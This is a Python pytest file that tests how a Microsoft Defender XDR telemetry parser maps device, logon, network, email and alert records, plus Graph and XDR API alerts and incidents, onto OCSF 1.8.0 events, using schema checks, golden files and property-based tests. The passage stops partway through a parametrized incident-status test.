"""The "ocsf" rule set: every event validates against OCSF 1.8.0; golden events; the peers' mistakes; docs."""

from __future__ import annotations

import json
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import m365parse
from m365parse.mappings import ocsf
from m365parse.mappings.ocsf import MAPPINGS, OCSF, mapping_table
from m365parse.mappings.ocsf._schema import CLASSES as GENERATED_CLASSES
from m365parse.mappings.registry import ALL
from m365parse.mappings.transforms import transform
from m365parse.tables import DOCUMENTED_TYPES

from .conftest import body, record
from .ocsf_schema import CLASSES, check_event
from .test_ecs import _record

HERE = Path(__file__).resolve().parent
GOLDEN = HERE / "golden_ocsf"
SAMPLES = Path(m365parse.__file__).resolve().parent / "samples"
DOC = Path(ocsf.__file__).resolve().parent / "OCSF.md"
TABLES = list(m365parse.TABLES)


def _decode(data: bytes) -> list[m365parse.Record]:
    batch = m365parse.decode(data)
    assert batch.errors == []
    return batch.records


def _event(table: str, **props: Any) -> dict[str, Any]:
    (rec,) = _decode(body(record(table, **props)))
    event = m365parse.normalize(rec, "ocsf")
    check_event(event)
    return event


def _sample(table: str) -> list[m365parse.Record]:
    return _decode((SAMPLES / f"{table}.json").read_bytes())


# --- golden events -------------------------------------------------------------------------

CASES = sorted(GOLDEN.glob("*/*.input.json"))


def test_every_table_has_golden_events() -> None:
    """Every table with rules, the SIEM alert and an unknown table (tables without rules are Base Events)."""
    assert {p.parent.name for p in CASES} >= set(MAPPINGS) | {"_unknown"}


@pytest.mark.parametrize("path", CASES, ids=[f"{p.parent.name}/{p.name.split('.')[0]}" for p in CASES])
def test_golden(path: Path) -> None:
    expected = json.loads(path.with_name(path.name.replace(".input.", ".expected.")).read_text("utf-8"))
    events = [m365parse.normalize(r, "ocsf") for r in _decode(path.read_bytes())]
    assert json.loads(json.dumps(events)) == expected
    for event in events:
        check_event(event)


# --- validity ----------------------------------------------------------------------------


@pytest.mark.parametrize("table", TABLES)
def test_samples_are_valid_events(table: str) -> None:
    for rec in _sample(table):
        event = m365parse.normalize(rec, "ocsf")
        check_event(event)
        assert event["metadata"]["product"] == {
            "name": "Microsoft Defender XDR",
            "vendor_name": "Microsoft",
            **(
                {"feature": event["metadata"]["product"]["feature"]}
                if "feature" in event["metadata"]["product"]
                else {}
            ),
        }
        assert event["metadata"]["version"] == "1.8.0"
        assert "datetime" in event["metadata"]["profiles"]


def test_the_validator_fails_on_bad_events() -> None:
    good = m365parse.normalize(_sample("DeviceProcessEvents")[0], "ocsf")
    check_event(good)
    bad_cases = [
        lambda e: e.pop("actor"),  # required by Process Activity
        lambda e: e.update(type_uid=100702),  # not class_uid * 100 + activity_id
        lambda e: e.update(activity_name="Terminate"),  # not the caption of activity_id
        lambda e: e.update(severity_id=7),  # not in the enum
        lambda e: e.update(time="2024-05-14T08:41:56Z"),  # timestamp_t is a number
        lambda e: e.update(nonsense=1),  # no such attribute
        lambda e: e.update(is_alert=True),  # needs the security_control profile, not declared
        lambda e: e["metadata"]["profiles"].append("cloud"),  # the cloud profile requires "cloud"
        lambda e: e.update(severity="High"),  # not the caption of severity_id 1
        lambda e: e["process"]["file"].pop("name"),  # file.name is required
        lambda e: e["device"].update(ip="-"),  # not an ip_t
        lambda e: e["process"].update(pid="5456"),  # integer_t
        lambda e: e.update(time_dt="yesterday"),  # datetime_t
    ]
    for i, spoil in enumerate(bad_cases):
        event = json.loads(json.dumps(good))
        if "device" in event:
            event["device"].setdefault("hostname", "x")
        spoil(event)
        with pytest.raises(AssertionError):
            check_event(event)
            pytest.fail(f"case {i} passed")


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_record())
def test_any_record_gives_a_valid_event(case: tuple[str, dict[str, Any]]) -> None:
    table, props = case
    data = json.dumps([props]).encode() if table == "SiemAlert" else body(record(table, **props))
    batch = m365parse.decode(data)
    assert len(batch.records) + len(batch.errors) == 1
    for rec in batch.records:
        check_event(m365parse.normalize(rec, "ocsf"))


@pytest.mark.parametrize("table", [t for t in TABLES if t in MAPPINGS])
def test_every_plan_gives_a_valid_event_from_its_actions(table: str) -> None:
    """Each ActionType a plan names, on a sample record of the table, gives a valid event of that class."""
    mapping = MAPPINGS[table]
    for rec in _sample(table):
        for plan in mapping.plans:
            for action in sorted(plan.actions or plan.activity or [None]):  # type: ignore[list-item]
                props = {**rec.to_dict()["properties"], **({"ActionType": action} if action else {})}
                data = json.dumps([props]).encode() if table == "SiemAlert" else body(record(table, **props))
                (again,) = _decode(data)
                event = m365parse.normalize(again, "ocsf")
                check_event(event)


_AS_WRITTEN = OCSF.derive("ocsf-as-written", {})  # a plain RuleSet: the rules compiled as they are


def _same_both_ways(rec: m365parse.Record) -> None:
    """The per-plan functions of the built-in set give what its rules say, key order included."""
    assert json.dumps(m365parse.normalize(rec, "ocsf")) == json.dumps(m365parse.normalize(rec, _AS_WRITTEN))


@pytest.mark.parametrize("table", [t for t in TABLES if t in MAPPINGS])
def test_plans_compiled_apart_give_what_the_rules_say(table: str) -> None:
    mapping = MAPPINGS[table]
    for rec in _sample(table):
        _same_both_ways(rec)
        for plan in mapping.plans:
            for action in [*sorted(plan.actions or plan.activity or []), None, "NoSuchAction"]:
                props = {**rec.to_dict()["properties"], "ActionType": action}
                data = json.dumps([props]).encode() if table == "SiemAlert" else body(record(table, **props))
                (again,) = _decode(data)
                _same_both_ways(again)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_record())
def test_any_record_gives_what_the_rules_say(case: tuple[str, dict[str, Any]]) -> None:
    table, props = case
    data = json.dumps([props]).encode() if table == "SiemAlert" else body(record(table, **props))
    for rec in m365parse.decode(data).records:
        _same_both_ways(rec)


def test_decide_keeps_what_an_if_applies_after_its_branch() -> None:
    from m365parse.mappings.ocsf._dispatch import decide

    spec = {"if": "c", "then": "A", "else": "B", "transform": ["lower"], "map": {"a": 1}, "default": 0}
    assert decide(spec, {"c": True}) == {"first": ["A"], "transform": ["lower"], "map": {"a": 1}, "default": 0}
    assert decide({"if": "c", "then": "A", "map": {"a": 1}, "default": 0}, {"c": False}) == {
        "const": None,
        "map": {"a": 1},
        "default": 0,
    }
    assert decide({"if": "c", "then": "A"}, {"c": False}) == {"const": None}
    assert decide({"first": [{"if": "d", "then": "A"}, {"if": "c", "then": "B"}]}, {"c": True}) == {
        "first": [{"if": "d", "then": "A"}, "B"]
    }


def test_generated_classes_agree_with_the_schema() -> None:
    for uid, (name, caption, category_uid, _, activities, _) in GENERATED_CLASSES.items():
        cls = CLASSES[str(uid)]
        assert (cls["name"], cls["caption"], cls["category_uid"]) == (name, caption, category_uid)
        assert {int(k): v for k, v in cls["attributes"]["activity_id"][5].items()} == activities


# --- nothing is lost ------------------------------------------------------------------------


def _texts(value: Any) -> list[str]:
    """The texts that must appear in an event for a column's value to be kept."""
    if isinstance(value, bool):
        return ["true" if value else "false"]
    if isinstance(value, (int, float)):
        return [str(value)]
    if isinstance(value, str):
        if value.strip()[:1] in ("[", "{"):  # a JSON column: decoded in the event
            try:
                return _texts(json.loads(value))
            except ValueError:
                pass
        return [json.dumps(value)[1:-1]]
    if isinstance(value, list):
        return [t for item in value for t in _texts(item)]
    if isinstance(value, dict):
        return [t for key, item in value.items() if not key.startswith("$") for t in _texts(item)]
    return []


@pytest.mark.parametrize("table", TABLES)
def test_nothing_is_lost(table: str) -> None:
    """Every value of every sample record is somewhere in its event (columns with no place in unmapped)."""
    for rec in _sample(table):
        event = m365parse.normalize(rec, "ocsf")
        text = json.dumps(event)
        for column, value in rec.to_dict()["properties"].items():
            for piece in _texts(value):
                assert piece in text, f"{table}.{column}: {piece!r} is not in the event"


def test_unknown_columns_odd_values_and_envelope_keys_are_kept() -> None:
    (rec,) = _decode((GOLDEN / "DeviceProcessEvents" / "extra_columns.input.json").read_bytes())
    event = m365parse.normalize(rec, "ocsf")
    check_event(event)
    assert event["unmapped"]["extra"] == {"ISP": "Example Telekom", "LogonId": "not a number"}
    assert event["unmapped"]["envelope"] == {
        "operationName": "Publish",
        "Tenant": "DefaultTenant",
        "_TimeReceivedBySvc": "2024-05-14T08:42:37.1234567Z",
        "SomethingNew": "x",
    }
    event["unmapped"]["extra"]["ISP"] = "changed"
    assert rec.extra["ISP"] == "Example Telekom"  # a copy


def test_unknown_tables_are_base_events_with_the_row() -> None:
    (rec,) = _decode((GOLDEN / "_unknown" / "behavior_info.input.json").read_bytes())
    assert isinstance(rec, m365parse.UnknownRecord)
    event = m365parse.normalize(rec, "ocsf")
    check_event(event)
    assert (event["class_uid"], event["type_uid"], event["category_name"]) == (0, 99, "Uncategorized")
    assert event["unmapped"]["properties"] == rec.properties
    assert event["time_dt"] == "2024-05-14T09:30:00.1234567Z"
    assert event["device"]["hostname"] == rec.properties["DeviceName"]
    assert event["metadata"]["profiles"] == ["datetime", "host"]


def test_a_table_without_rules_gives_base_events() -> None:
    """What the tables other work adds get before their own rules: Base Events, columns in unmapped."""
    from m365parse.mappings.ocsf import _generic
    from m365parse.mappings.ocsf._build import build
    from m365parse.mappings.registry import RuleSet

    for table in ("DeviceProcessEvents", "EmailEvents", "SiemAlert"):
        rs = RuleSet("generic", {table: build(_generic(table))}, nested=True)
        for rec in _sample(table):
            event = m365parse.normalize(rec, rs)
            check_event(event)
            assert event["class_uid"] == 0
            for column, value in rec.to_dict()["properties"].items():
                if value not in ("", None) and column not in (
                    "DeviceName",
                    "DeviceId",
                    "ActionType",
                    "ReportId",
                    "Timestamp",
                    "AlertTime",
                ):
                    assert event["unmapped"][column] is not None, column


def test_every_rule_targets_a_known_attribute_of_its_classes() -> None:
    """Each table's rules name attributes of the classes its plans use (or unmapped)."""
    for table, mapping in MAPPINGS.items():
        for plan in mapping.plans:
            attrs = CLASSES[str(plan.class_uid)]["attributes"]
            for target in {**mapping.common, **plan.rules}:
                assert target.split(".")[0] in attrs, (table, plan.class_uid, target)


# --- the mistakes of peers (issue 12) -------------------------------------------------------


def test_a_failed_logon_is_a_logon_with_status_failure() -> None:
    for table in ("DeviceLogonEvents", "IdentityLogonEvents"):
        event = _event(table, ActionType="LogonFailed", AccountName="x", AccountSid="S-1-5-21-1", FailureReason="Bad")
        assert (event["activity_id"], event["activity_name"], event["status_id"]) == (1, "Logon", 2)
        assert (event["status"], event["status_detail"]) == ("Failure", "Bad")
        assert event["type_uid"] == 300201
        event = _event(table, ActionType="LogonSuccess", AccountName="x")
        assert (event["activity_id"], event["status_id"]) == (1, 1)


@pytest.mark.parametrize("table", TABLES)
def test_type_uid_follows_class_and_activity(table: str) -> None:
    for rec in _sample(table):
        event = m365parse.normalize(rec, "ocsf")
        assert event["type_uid"] == event["class_uid"] * 100 + event["activity_id"]
        # type_name is the type_uid's caption; for Other (99) activity_name is the source's own value
        activity = "Other" if event["activity_id"] == 99 else event["activity_name"]
        assert event["type_name"] == f"{event['class_name']}: {activity}"
        if event["activity_id"] == 99:
            assert event["activity_name"] == (getattr(rec.properties, "ActionType", None) or "Other")


@pytest.mark.parametrize("table", TABLES)
def test_severity_is_unknown_for_findings_that_have_none(table: str) -> None:
    # a finding of a table without a severity column: Unknown (0); an activity or inventory event: Informational
    from m365parse.tables import DOCUMENTED_TYPES

    has_severity = any("Severity" in column for column in DOCUMENTED_TYPES[table])
    for rec in _sample(table):
        event = m365parse.normalize(rec, "ocsf")
        if 2000 <= event["class_uid"] < 3000 and not has_severity:
            assert (event["severity_id"], event["severity"]) == (0, "Unknown"), event["class_name"]
        elif event["class_uid"] // 1000 in (1, 3, 4, 5, 6, 201):
            assert (event["severity_id"], event["severity"]) == (1, "Informational"), event["class_name"]


def test_the_actor_is_the_initiating_process() -> None:
    for table in ("DeviceNetworkEvents", "DeviceFileEvents", "DeviceRegistryEvents", "DeviceImageLoadEvents"):
        for rec in _sample(table):
            p, event = rec.properties, m365parse.normalize(rec, "ocsf")
            actor = event["actor"]["process"]
            assert (actor.get("name"), actor.get("pid")) == (p.InitiatingProcessFileName or None, p.InitiatingProcessId)
            parent = actor.get("parent_process", {})
            assert parent.get("name") == (p.InitiatingProcessParentFileName or None)
            assert parent.get("pid") == p.InitiatingProcessParentId
            assert "process" not in event or event["class_uid"] == 1007
            if p.InitiatingProcessAccountName:
                assert event["actor"]["user"]["name"] == p.InitiatingProcessAccountName


def test_process_events_report_the_created_process() -> None:
    for rec in _sample("DeviceProcessEvents"):
        p, event = rec.properties, m365parse.normalize(rec, "ocsf")
        assert (event["process"]["name"], event["process"]["pid"]) == (p.FileName, p.ProcessId)
        assert event["process"]["cmd_line"] == p.ProcessCommandLine
        assert event["process"]["parent_process"]["pid"] == p.InitiatingProcessId
        assert event["actor"]["process"]["pid"] == p.InitiatingProcessId
        assert event["actor"]["process"]["parent_process"]["name"] == p.InitiatingProcessParentFileName


def test_every_hash_is_kept() -> None:
    for rec in _sample("DeviceProcessEvents"):
        p, event = rec.properties, m365parse.normalize(rec, "ocsf")
        hashes = {h["algorithm"]: h["value"] for h in event["process"]["file"]["hashes"]}
        assert hashes == {k: v for k, v in (("MD5", p.MD5), ("SHA-1", p.SHA1), ("SHA-256", p.SHA256)) if v}
        actor = {h["algorithm_id"]: h["value"] for h in event["actor"]["process"]["file"]["hashes"]}
        assert actor == {
            k: v
            for k, v in ((1, p.InitiatingProcessMD5), (2, p.InitiatingProcessSHA1), (3, p.InitiatingProcessSHA256))
            if v
        }


def test_user_names_are_user_name() -> None:
    event = _event(
        "DeviceLogonEvents",
        ActionType="LogonSuccess",
        AccountName="avery",
        AccountDomain="CONTOSO",
        AccountSid="S-1-5-21-7",
    )
    assert event["user"] == {"name": "avery", "domain": "CONTOSO", "uid": "S-1-5-21-7"}
    assert "account" not in json.dumps(event["user"])
    info = m365parse.normalize(_sample("IdentityInfo")[0], "ocsf")["user"]
    assert info["uid_alt"] and info["name"]


def test_times_are_milliseconds_and_the_instant_is_kept() -> None:
    event = _event("DeviceProcessEvents", Timestamp="2024-05-14T08:41:56.5950497Z")
    assert event["time"] == 1715676116595
    assert event["time_dt"] == event["metadata"]["original_time"] == "2024-05-14T08:41:56.5950497Z"
    # the microsecond msgspec rounds to must not carry into the next millisecond
    assert _event("DeviceProcessEvents", Timestamp="2024-05-14T08:41:56.9999996Z")["time"] == 1715676116999
    assert _event("DeviceProcessEvents", Timestamp="2024-05-14T08:41:56Z")["time"] == 1715676116000
    assert event["metadata"]["logged_time"] == 1715676254904  # the envelope time


@pytest.mark.parametrize(
    "props",
    [
        {"ActionType": "InboundConnectionAccepted"},
        {"ActionType": "HttpConnectionInspected", "AdditionalFields": '{"direction":"In"}'},
        {"ActionType": "SslConnectionInspected", "AdditionalFields": {"direction": "In"}},
    ],
)
def test_inbound_connections_have_the_remote_side_as_source(props: dict[str, Any]) -> None:
    sides = {"RemoteIP": "203.0.113.9", "RemotePort": 50123, "LocalIP": "10.0.0.5", "LocalPort": 443}
    event = _event("DeviceNetworkEvents", **props, **sides, InitiatingProcessFileName="svchost.exe")
    assert event["src_endpoint"] == {"ip": "203.0.113.9", "port": 50123}
    assert event["dst_endpoint"] == {"ip": "10.0.0.5", "port": 443}
    assert event["connection_info"]["direction_id"] == 1
    event = _event("DeviceNetworkEvents", ActionType="ConnectionSuccess", **sides)
    assert event["src_endpoint"]["ip"] == "10.0.0.5" and event["dst_endpoint"]["ip"] == "203.0.113.9"
    assert event["connection_info"]["direction_id"] == 2


def test_values_that_are_no_address_or_port_stay_in_unmapped() -> None:
    """A column kept through ip, port or int loses nothing: a value they reject is in unmapped."""
    sides = {"RemoteIP": "bogus", "RemotePort": 99999, "LocalIP": "10.0.0.1"}
    event = _event("DeviceNetworkEvents", ActionType="ConnectionSuccess", **sides)
    assert "dst_endpoint" not in event and event["src_endpoint"] == {"ip": "10.0.0.1"}
    assert (event["unmapped"]["RemoteIP"], event["unmapped"]["RemotePort"]) == ("bogus", 99999)
    assert "LocalIP" not in event["unmapped"]  # a valid value is kept once, in its attribute
    logon = _event("DeviceLogonEvents", ActionType="LogonFailed", AccountName="j", RemoteIP="n/a", RemotePort=443)
    assert (logon["unmapped"]["RemoteIP"], logon["src_endpoint"]) == ("n/a", {"port": 443})
    action = "ContainedUserLogonBlocked"
    blocked = _event("DisruptionAndResponseEvents", ActionType=action, SourceUserName="j", Port="x")
    assert blocked["unmapped"]["Port"] == "x"
    for placeholder in ("-", " - ", ""):  # a placeholder for no address is no value
        event = _event("DeviceNetworkEvents", ActionType="ConnectionSuccess", RemoteIP=placeholder)
        assert "RemoteIP" not in event["unmapped"]


@pytest.mark.parametrize("placeholder", ["-", "", " - "])
def test_placeholder_addresses_are_never_addresses(placeholder: str) -> None:
    event = _event("DeviceNetworkEvents", ActionType="ConnectionSuccess", RemoteIP=placeholder, LocalIP=placeholder)
    assert "ip" not in event.get("src_endpoint", {}) and "ip" not in event.get("dst_endpoint", {})


@pytest.mark.parametrize(
    ("action", "class_uid", "activity_id"),
    [
        ("CreateRemoteThreadApiCall", 1007, 4),
        ("OpenProcessApiCall", 1007, 3),
        ("ScheduledTaskCreated", 1006, 1),
        ("ServiceInstalled", 201004, 1),
        ("DriverLoad", 1002, 1),
        ("UsbDriveMounted", 1010, 1),
        ("SecurityLogCleared", 1008, 1),
        ("PowerShellCommand", 1009, 1),
        ("UserAccountCreated", 3001, 1),
        ("FirewallInboundConnectionBlocked", 4001, 5),
        ("AntivirusDetection", 2004, 1),
        ("SomethingNobodyKnows", 0, 99),
    ],
)
def test_device_events_take_the_class_of_their_action(action: str, class_uid: int, activity_id: int) -> None:
    props = {
        "ActionType": action,
        "FileName": "x.sys",
        "ProcessId": 4,
        "AccountName": "avery",
        "ReportId": 7,
        "InitiatingProcessFileName": "services.exe",
        "AdditionalFields": {
            "TaskName": "\\Updater",
            "ServiceName": "Updater",
            "DeviceDescription": "USB Disk",
            "Command": "Get-Process",
        },
    }
    event = _event("DeviceEvents", **props)
    assert (event["class_uid"], event["activity_id"]) == (class_uid, activity_id)


def test_dns_inspections_are_dns_activity() -> None:
    (rec,) = [r for r in _sample("DeviceNetworkEvents") if r.properties.ActionType == "DnsConnectionInspected"]
    event = m365parse.normalize(rec, "ocsf")
    assert (event["class_uid"], event["activity_name"]) == (4003, "Traffic")
    assert event["query"] == {"hostname": "cdn.example.com", "type": "A"}
    assert event["answers"] == [{"rdata": "cdn-edge.example.net", "ttl": 300}, {"rdata": "203.0.113.45", "ttl": 60}]
    assert (event["rcode_id"], event["rcode"]) == (0, "NoError")
    odd = _event(
        "DeviceNetworkEvents",
        ActionType="DnsConnectionInspected",
        AdditionalFields={"query": "a.example", "rcode_name": "BADVERS"},
    )
    assert (odd["rcode_id"], odd["rcode"]) == (99, "BADVERS")
    bare = _event("DeviceNetworkEvents", ActionType="DnsConnectionInspected", RemoteIP="10.0.0.1")  # no query
    assert bare["class_uid"] == 4001


@pytest.mark.parametrize(
    ("action", "action_id", "disposition_id"),
    [
        ("AsrOfficeChildProcessBlocked", 2, 2),
        ("ExploitGuardChildProcessAudited", 3, 17),
        ("SmartScreenUserOverride", 1, 1),
    ],
)
def test_protection_events_carry_action_and_disposition(action: str, action_id: int, disposition_id: int) -> None:
    event = _event("DeviceEvents", ActionType=action, InitiatingProcessFileName="winword.exe")
    assert (event["class_uid"], event["action_id"], event["disposition_id"]) == (0, action_id, disposition_id)
    assert "security_control" in event["metadata"]["profiles"]


def test_a_record_without_what_its_class_needs_is_a_base_event() -> None:
    event = _event("DeviceFileEvents", ActionType="FileCreated", FolderPath="C:\\x")  # no file name, no actor
    # Other (99), named by the source's own value, as OCSF asks
    assert (event["class_uid"], event["activity_id"], event["activity_name"]) == (0, 99, "FileCreated")
    assert event["type_name"] == "Base Event: Other"
    assert event["unmapped"]["FolderPath"] == "C:\\x"
    event = _event("DeviceEvents")  # no ActionType at all
    assert (event["class_uid"], event["activity_id"], event["type_name"]) == (0, 0, "Base Event: Unknown")


def test_findings() -> None:
    event = m365parse.normalize(_sample("AlertInfo")[0], "ocsf")
    info = event["finding_info"]
    assert info["uid"] == "da638513125272201354_-1286451032" and info["title"]
    assert {"technique": {"uid": "T1059"}, "sub_technique": {"uid": "T1059.001", "name": "PowerShell"}} in event[
        "attacks"
    ]
    assert {"tactic": {"uid": "TA0002", "name": "Execution"}} in event["attacks"]
    assert (event["severity_id"], event["severity"]) == (3, "Medium")
    odd = _event("AlertInfo", AlertId="a1", Severity="UnSpecified")
    assert (odd["severity_id"], odd["severity"]) == (99, "UnSpecified")
    evidence = m365parse.normalize(_sample("AlertEvidence")[0], "ocsf")["evidences"]
    assert len(evidence) == 1 and evidence[0]["name"]
    siem = m365parse.normalize(_sample("SiemAlert")[0], "ocsf")
    assert siem["class_uid"] == 2004 and siem["evidences"][0]["file"]["hashes"]


def test_message_ids_are_not_mixed_up() -> None:
    for rec in _sample("EmailEvents"):
        email = m365parse.normalize(rec, "ocsf")["email"]
        assert email["uid"] == rec.properties.NetworkMessageId
        assert email["message_uid"] == rec.properties.InternetMessageId


# --- the transforms of the rule set -------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "value", "expected"),
    [
        ("epoch_ms", datetime(2024, 5, 14, 8, 41, 56, 595049, tzinfo=timezone.utc), 1715676116595),
        ("epoch_ms", datetime(1969, 12, 31, 23, 59, 59, 999500), -1),  # naive is UTC; rounded down
        ("epoch_ms", "2024-05-14", None),
        ("ocsf_severity_id", " High ", 4),
        ("ocsf_severity_id", "UnSpecified", 99),
        ("ocsf_severity_id", "", None),
        ("ocsf_severity_other", "UnSpecified", "UnSpecified"),
        ("ocsf_severity_other", "Low", None),
        ("ocsf_os_type_id", "WindowsServer2022", 100),
        ("ocsf_os_type_id", "iPadOS", 302),
        ("ocsf_os_type_id", "Plan 9", 99),
        ("ocsf_os_type_id", "  ", 0),
        (
            "ocsf_attacks",
            '["PowerShell (T1059.001)", "x", "PowerShell (T1059.001)"]',
            [{"technique": {"uid": "T1059"}, "sub_technique": {"uid": "T1059.001", "name": "PowerShell"}}],
        ),
        ("ocsf_tactic_attacks", "CommandAndControl", [{"tactic": {"uid": "TA0011", "name": "Command and Control"}}]),
        ("ocsf_tactic_attacks", "Malware", None),
        ("email", "a.b+c@example.com", "a.b+c@example.com"),
        ("email", "-", None),
        ("port", "443", 443),
        ("http_status", "204", 204),
        ("http_status", 404, 404),
        ("http_status", "Active", None),
        ("http_status", 42, None),
        ("http_status", True, None),
        ("pid", "48190", 48190),
        ("pid", 7, 7),
        ("pid", "-1", None),
        ("pid", "sh", None),
        ("pid", False, None),
        ("ocsf_error_status", 0, 1),
        ("ocsf_error_status", 50126, 2),
        ("ocsf_error_status", "0", None),
        ("ocsf_error_status", False, None),
        ("port", 70000, None),
        ("port", True, None),
        ("port", "²", None),  # a digit to str.isdigit(), no port
        ("text", "  ", None),
        ("text", 5, "5"),
        ("present:1", "x", 1),
        ("present:1", "", None),
        ("present_text:Unknown", "x", "Unknown"),
        ("fingerprint:SHA-256", "ab", {"algorithm_id": 3, "algorithm": "SHA-256", "value": "ab"}),
        ("fingerprint:MD5", " ", None),
        ("wrap:url_string", "https://x", [{"url_string": "https://x"}]),
        ("wrap:name", ["a", "", None], [{"name": "a"}]),
        ("long_string", "Get-Process", {"value": "Get-Process"}),
        ("long_string", " ", None),
    ],
)
def test_transform(name: str, value: Any, expected: Any) -> None:
    assert transform(name)(value) == expected


def test_bad_transform_arguments_are_unknown_transforms() -> None:
    for name in ("present:x", "fingerprint:CRC32"):
        with pytest.raises(KeyError):
            transform(name)


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.none(), st.text(max_size=30), st.integers(), st.floats(), st.booleans(), st.lists(st.text())))
def test_the_transforms_never_raise(value: Any) -> None:
    from m365parse.mappings.ocsf_transforms import OCSF_TRANSFORMS

    for name in [*OCSF_TRANSFORMS, "present:0", "present_text:x", "fingerprint:SHA-1", "wrap:k"]:
        transform(name)(value)


# --- documentation ------------------------------------------------------------------------


def test_mapping_doc_is_current() -> None:
    assert DOC.read_text("utf-8") == mapping_table(), (
        "run: python -c 'from m365parse.mappings.ocsf import "
        'mapping_table; open("m365parse/mappings/ocsf/OCSF.md", "w").write(mapping_table())\''
    )


def test_the_rule_set_is_registered_and_nested() -> None:
    assert m365parse.registry.get("ocsf") is OCSF and OCSF.nested
    assert set(OCSF.rules) == {*DOCUMENTED_TYPES, ALL}


# --- alerts, incidents and hunting rows of the polled APIs ---------------------------------

API_SAMPLES = sorted((Path(m365parse.__file__).resolve().parent / "samples" / "api").glob("*.json"))
API_KINDS = ("GraphAlert", "GraphIncident", "MdeAlert", "XdrAlert", "XdrIncident", "HuntingRow")


def _api_records(*paths: Path) -> list[m365parse.Record]:
    out: list[m365parse.Record] = []
    for path in paths:
        batch = m365parse.decode(path.read_bytes())
        assert not batch.errors
        out += batch.records
    return out


def test_every_api_kind_has_golden_events() -> None:
    assert {p.parent.name for p in CASES} >= set(API_KINDS)
    kinds = {r.table for r in _api_records(*API_SAMPLES)}
    assert kinds >= set(API_KINDS)


@pytest.mark.parametrize("path", API_SAMPLES, ids=[p.stem for p in API_SAMPLES])
def test_api_samples_are_valid_events_and_lose_nothing(path: Path) -> None:
    for rec in _api_records(path):
        event = m365parse.normalize(rec, "ocsf")
        check_event(event)
        assert event["metadata"]["version"] == "1.8.0" and "datetime" in event["metadata"]["profiles"]
        text = json.dumps(event)
        for key, value in rec.to_dict()["properties"].items():
            for piece in _texts(value):
                assert piece in text, f"{rec.table}.{key}: {piece!r} is not in the event"


def test_api_kinds_take_their_classes() -> None:
    classes = {r.table: m365parse.normalize(r, "ocsf")["class_uid"] for r in _api_records(*API_SAMPLES)}
    assert {k: classes[k] for k in API_KINDS} == {
        "GraphAlert": 2004,
        "MdeAlert": 2004,
        "XdrAlert": 2004,
        "GraphIncident": 2005,
        "XdrIncident": 2005,
        "HuntingRow": 0,
    }


def _graph_alert(**props: Any) -> dict[str, Any]:
    item = {"id": "a1", "title": "t", "serviceSource": "microsoftDefenderForEndpoint", **props}
    page = {"@odata.context": "https://graph.microsoft.com/v1.0/$metadata#security/alerts_v2", "value": [item]}
    (rec,) = _api_records_of(json.dumps(page).encode())
    event = m365parse.normalize(rec, "ocsf")
    check_event(event)
    return event


def _graph_incident(**props: Any) -> dict[str, Any]:
    item = {"id": "9", "displayName": "incident", **props}
    page = {"@odata.context": "https://graph.microsoft.com/v1.0/$metadata#security/incidents", "value": [item]}
    (rec,) = _api_records_of(json.dumps(page).encode())
    event = m365parse.normalize(rec, "ocsf")
    check_event(event)
    return event


def _api_records_of(data: bytes) -> list[m365parse.Record]:
    batch = m365parse.decode(data)
    assert not batch.errors
    return batch.records


@pytest.mark.parametrize(
    ("classification", "determination", "verdict_id", "verdict"),
    [
        ("truePositive", "malware", 2, "True Positive"),
        ("TruePositive", "Malware", 2, "True Positive"),  # MDE / XDR spell them in Pascal case
        ("falsePositive", "notMalicious", 1, "False Positive"),
        ("informationalExpectedActivity", "confirmedUserActivity", 5, "Benign"),
        ("informationalExpectedActivity", "securityTesting", 6, "Test"),
        ("falsePositive", "notEnoughDataToValidate", 7, "Insufficient Data"),
        ("unknown", "unknown", 0, "Unknown"),
        ("unknownFutureValue", "unknownFutureValue", 99, "unknownFutureValue"),
        ("somethingNew", None, 99, "somethingNew"),
    ],
)
def test_alert_verdicts(classification: str, determination: str | None, verdict_id: int, verdict: str) -> None:
    event = _graph_alert(classification=classification, determination=determination)
    assert (event["verdict_id"], event["verdict"]) == (verdict_id, verdict)
    assert event["unmapped"]["classification"] == classification  # the mapping is lossy: the raw value stays


@pytest.mark.parametrize(
    ("status", "status_id", "caption"),
    [("new", 1, "New"), ("inProgress", 2, "In Progress"), ("InProgress", 2, "In Progress"), ("resolved", 4, "Resolved"),
     ("unknown", 0, "Unknown"), ("unknownFutureValue", 99, "unknownFutureValue")],
)
def test_alert_status(status: str, status_id: int, caption: str) -> None:
    event = _graph_alert(status=status)
    assert (event["status_id"], event["status"]) == (status_id, caption)
    assert event["unmapped"]["status"] == status


def test_alert_without_classification_or_time() -> None:
    event = _graph_alert()
    assert "verdict_id" not in event and "status_id" not in event
    assert event["time"] == 0 and "time_dt" not in event  # OCSF requires a time; none was sent
    assert event["severity_id"] == 0


def test_alert_times_and_attacks() -> None:
    event = _graph_alert(
        createdDateTime="2026-07-14T06:02:44.4169234Z",
        lastUpdateDateTime="2026-07-14T06:30:00.0000001Z",
        mitreTechniques=["T1566.002", "T1078", "junk"],
        severity="high",
    )
    assert event["time"] == 1784008964416 and event["time_dt"] == "2026-07-14T06:02:44.4169234Z"
    info = event["finding_info"]
    assert info["created_time"] == 1784008964416 and info["modified_time_dt"] == "2026-07-14T06:30:00.0000001Z"
    assert info["attacks"] == [
        {"technique": {"uid": "T1566"}, "sub_technique": {"uid": "T1566.002"}},
        {"technique": {"uid": "T1078"}},
    ]
    assert (event["severity_id"], event["severity"]) == (4, "High")
    assert event["unmapped"]["mitreTechniques"] == ["T1566.002", "T1078", "junk"]


@pytest.mark.parametrize(
    ("status", "status_id"),
    [("active", 1), ("inProgress", 2), ("awaitingAction", 3), ("resolved", 4), ("redirected", 5), ("unknown", 0),
     ("unknownFutureValue", 99), (None, 0)],
)
def test_incident_status_is_always_set(status: str | None, status_id: int) -> None:
    event = _graph_incident(status=status)
    assert event["class_uid"] == 2005 and event["status_id"] == status_id
    assert event["finding_info_list"] == [{"uid": "9", "title": "incident"}]  # no alerts: the incident itself


@pytest.mark.parametrize(
    ("status", "activity_id", "activity_name"),
    [("new", 1, "Create"), ("New", 1, "Create"), ("unknown", 1, "Create"), (None, 1, "Create"),
     ("inProgress", 2, "Update"), ("InProgress", 2, "Update"), ("unknownFutureValue", 2, "Update"),
